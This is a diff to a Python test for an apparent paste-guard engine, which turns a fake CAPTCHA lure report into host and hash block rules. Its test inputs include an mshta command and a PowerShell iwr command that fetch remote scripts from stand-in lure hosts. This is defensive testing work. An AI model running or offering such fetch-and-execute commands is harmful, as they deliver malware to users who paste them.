@@ -77,7 +77,7 @@ def test_from_report_reads_any_report_without_raising(
 def test_a_report_as_the_warning_writes_it_becomes_a_working_rule(tmp_path: Path) -> None:
     """The seam: ui/warning/report.py's document from a real verdict, through from-report, into rules."""
     lure = "mshta https://payload.lure-cdn.example/verify.hta   # I am not a robot - ID 4471"
-    engine = Engine()
+    engine = Engine(strict=True)
     verdict = engine.analyze(
         lure, Context(source="https://verify.lure-site.example/", target=PasteTarget.RUN_DIALOG)
     )
@@ -92,6 +92,6 @@ def test_a_report_as_the_warning_writes_it_becomes_a_working_rule(tmp_path: Path
     assert errors == []
     assert {"verify.lure-site.example", "payload.lure-cdn.example"} <= lists.block_hosts
     assert event.sha256 in lists.block_text_hashes
-    fleet = Engine(rule_paths=[default_rules_dir(), path.parent])
+    fleet = Engine(rule_paths=[default_rules_dir(), path.parent], strict=True)
     other = "powershell iwr https://cdn.payload.lure-cdn.example/x.ps1 -OutFile x.ps1"
     assert any(r.startswith("PG-FLEET-") for r in fleet.analyze(other).rule_ids)
